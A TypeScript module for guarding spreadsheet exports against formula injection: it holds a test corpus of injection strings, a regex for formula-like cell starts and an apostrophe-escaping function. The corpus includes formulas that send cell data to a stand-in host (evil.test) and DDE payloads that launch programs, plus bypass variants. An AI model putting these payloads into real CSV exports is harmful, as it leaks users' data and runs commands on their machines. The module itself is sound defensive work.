/**
 * What people have put into tables so that a spreadsheet would carry it out: OWASP's page on CSV injection, and the
 * ways around simple guards (a space or a mark in front, full-width signs, line ends, quotes and separators inside).
 */
export const injectionCorpus = [
  '=1+1',
  '=HYPERLINK("https://evil.test?leak="&A1,"Press here")',
  "=cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("https://evil.test/?v=",A2),"//a")',
  '=WEBSERVICE("https://evil.test")',
  '+1+1',
  "+cmd|' /C notepad'!'A1'",
  '-1+1',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '",=1+1,"',
  '"\r\n=1+1\r\n"',
  'x",=1+1',
  'x\t=1+1',
  'x\r\n=1+1',
  '==1',
  '=',
  'x;=1+1;y',
  "x;'=1+1",
  'x;"=1+1&"',
  "x;''\"＋1",
  'first\r\n=1+1\r\nlast',
  '=1;-1\t@x',
] as const;

/** How a cell begins that a spreadsheet may take for a formula. */
export const executable = /^[=+\-@\t\r\n＝＋－＠]/;

/**
 * A value as a table of text must have it: an apostrophe before every sign that begins it, or that would begin a cell
 * where a spreadsheet cuts at semicolons, tabs and line ends, whatever quotes or apostrophes lie between.
 */
export function harmless(text: string): string {
  let safe = executable.test(text.replace(/^'+/, '')) ? "'" : '';
  let mayBegin = false;
  for (const letter of text) {
    if (mayBegin && /[=+\-@＝＋－＠]/.test(letter)) safe += "'";
    mayBegin = /[;\t\r\n]/.test(letter) || (mayBegin && /["']/.test(letter));
    safe += letter;
  }
  return safe;
}
